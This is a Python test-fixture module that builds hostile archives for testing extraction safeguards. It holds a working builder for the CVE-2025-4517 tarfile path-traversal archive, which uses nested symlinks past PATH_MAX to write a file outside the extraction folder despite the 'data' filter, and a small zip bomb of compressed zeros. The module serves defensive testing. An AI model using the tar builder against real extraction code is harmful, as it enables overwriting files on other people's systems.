"""Hostile inputs the tests build themselves: the CVE-2025-4517 tar, a zip bomb, a corrupt safetensors file."""
from __future__ import annotations

import io
import tarfile
import zipfile
from pathlib import Path


def cve_2025_4517_tar(path: Path, *, outside: Path, dest: Path) -> Path:
    """The published CVE-2025-4517 archive, aimed at extraction folder `dest`, writing `outside/pwned.txt`.

    16 nested folders of 247-character names, each with a one-letter symlink to it, so that `a/b/.../p` is a path
    far past PATH_MAX once resolved; a symlink under it climbing 16 levels (os.path.realpath gives up on the long
    path, so PEP 706's `data` filter of CPython <= 3.11.12 sees it inside); then `escape` -> that link + enough '..'
    to reach `outside`, and a file written through `escape`. On this machine's Python 3.11.7,
    `tarfile.extractall(dest, filter="data")` writes the file.
    """
    comp, steps, prefix = "d" * 247, "abcdefghijklmnop", ""
    with tarfile.open(path, "w") as tf:
        for step in steps:
            tf.addfile(_member(f"{prefix}{comp}", tarfile.DIRTYPE))
            tf.addfile(_member(f"{prefix}{step}", tarfile.SYMTYPE, link=comp))
            prefix += comp + "/"
        chain = "/".join(steps) + "/" + "l" * 254
        tf.addfile(_member(chain, tarfile.SYMTYPE, link="../" * len(steps)))
        up = "../" * (len(Path(dest).parts) - 1)
        tf.addfile(_member("escape", tarfile.SYMTYPE, link=f"{chain}/{up}{str(outside).lstrip('/')}"))
        data = b"written outside the extraction folder\n"
        info = _member("escape/pwned.txt", tarfile.REGTYPE)
        info.size = len(data)
        tf.addfile(info, io.BytesIO(data))
    return path


def zeros_zip(path: Path, *, mib: int = 8, folder: str = "m") -> Path:
    """A zip of `folder/config.json` and `mib` MiB of zeros as `folder/model.safetensors` (~1000x compression)."""
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        zf.writestr(f"{folder}/config.json", "{}")
        zf.writestr(f"{folder}/model.safetensors", b"\0" * (mib << 20))
    return path


def _member(name: str, kind: bytes, *, link: str = "") -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type, info.linkname = kind, link
    return info
